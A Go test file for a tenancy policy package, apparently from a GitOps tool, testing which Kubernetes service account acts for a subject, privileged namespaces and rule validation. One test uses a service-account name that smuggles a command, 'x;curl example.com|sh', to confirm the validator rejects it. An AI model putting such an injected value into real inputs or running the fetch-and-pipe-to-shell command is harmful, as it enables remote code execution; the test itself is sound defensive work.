package tenancy_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/flotilla-io/flotilla/policies/tenancy"
)

// TestWhoActs: nobody but an administrator goes without a service account, whatever
// he refers to.
func TestWhoActs(t *testing.T) {
	rules := tenancy.Rules{PrivilegedNamespaces: []string{"flux-system", "platform"}}
	ref := func(namespaces ...string) []tenancy.Reference {
		var out []tenancy.Reference
		for i, namespace := range namespaces {
			out = append(out, tenancy.Reference{Field: fmt.Sprintf("spec.dependsOn[%d]", i), Namespace: namespace})
		}
		return out
	}
	cases := map[string]struct {
		rules   tenancy.Rules
		subject tenancy.Subject
		want    string
		because string
	}{
		"a tenant":                                {rules, tenancy.Subject{Namespace: "shop"}, "shop/default", "as it names no spec.serviceAccountName"},
		"a tenant who names an account":           {rules, tenancy.Subject{Namespace: "shop", ServiceAccountName: "deployer"}, "shop/deployer", "as spec.serviceAccountName says"},
		"a tenant who refers to an administrator": {rules, tenancy.Subject{Namespace: "shop", References: ref("flux-system")}, "shop/default", "as it names no spec.serviceAccountName"},
		"an administrator":                        {rules, tenancy.Subject{Namespace: "flux-system"}, "", "as its namespace is privileged"},
		"one who names an account":                {rules, tenancy.Subject{Namespace: "flux-system", ServiceAccountName: "deployer"}, "flux-system/deployer", "as spec.serviceAccountName says"},
		"one who refers to his own":               {rules, tenancy.Subject{Namespace: "flux-system", References: ref("", "flux-system", "platform")}, "", "as its namespace is privileged"},
		"one who refers to a tenant": {
			rules, tenancy.Subject{Namespace: "flux-system", References: ref("", "platform", "shop")}, "flux-system/default",
			"as it names no spec.serviceAccountName and spec.dependsOn[2] is in the namespace shop, which --privileged-source-namespaces does not name",
		},
		"another default account": {tenancy.Rules{DefaultServiceAccount: "deployer"}, tenancy.Subject{Namespace: "shop"}, "shop/deployer", "as it names no spec.serviceAccountName"},
		"no rules at all":         {tenancy.Rules{}, tenancy.Subject{Namespace: "flux-system"}, "flux-system/default", "as it names no spec.serviceAccountName"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			got, account := tc.rules.Of(tc.subject), ""
			if !got.Privileged() {
				account = got.ServiceAccount.String()
			}
			if account != tc.want || got.Because != tc.because {
				t.Errorf("%q acts, %s; want %q, %s", account, got.Because, tc.want, tc.because)
			}
		})
	}
}

// TestHintsForNoAccount: a name that no account can have grants nothing, and stands in
// no command.
func TestHintsForNoAccount(t *testing.T) {
	who := tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop", ServiceAccountName: "x;curl example.com|sh"})
	text := `User "system:serviceaccount:shop:x;curl example.com|sh" cannot patch resource "deployments" in API group "apps" in the namespace "web"`
	if got := who.Hint(text); got != "" {
		t.Errorf("hint = %q", got)
	}
	if err := who.Check(); err == nil || !strings.Contains(err.Error(), "curl") {
		t.Errorf("Check = %v", err)
	}
	for _, fine := range []tenancy.Identity{{}, tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop"}), tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop", ServiceAccountName: "flux.applier"})} {
		if err := fine.Check(); err != nil {
			t.Errorf("Check of %v = %v", fine, err)
		}
	}
}

func TestRulesAreChecked(t *testing.T) {
	cases := map[string]struct {
		rules tenancy.Rules
		want  string
	}{
		"none":                        {},
		"good ones":                   {rules: tenancy.Rules{DefaultServiceAccount: "flux.applier", PrivilegedNamespaces: []string{"flux-system"}}},
		"an account with a namespace": {tenancy.Rules{DefaultServiceAccount: "kube-system:default"}, "--default-service-account: "},
		"a pattern":                   {tenancy.Rules{PrivilegedNamespaces: []string{"flux-system", "*"}}, "--privileged-source-namespaces: "},
		"nothing":                     {tenancy.Rules{PrivilegedNamespaces: []string{""}}, "--privileged-source-namespaces: "},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			err := tc.rules.Check()
			if (err == nil) != (tc.want == "") || err != nil && !strings.HasPrefix(err.Error(), tc.want) {
				t.Errorf("error = %v, want one that begins with %q", err, tc.want)
			}
		})
	}
}
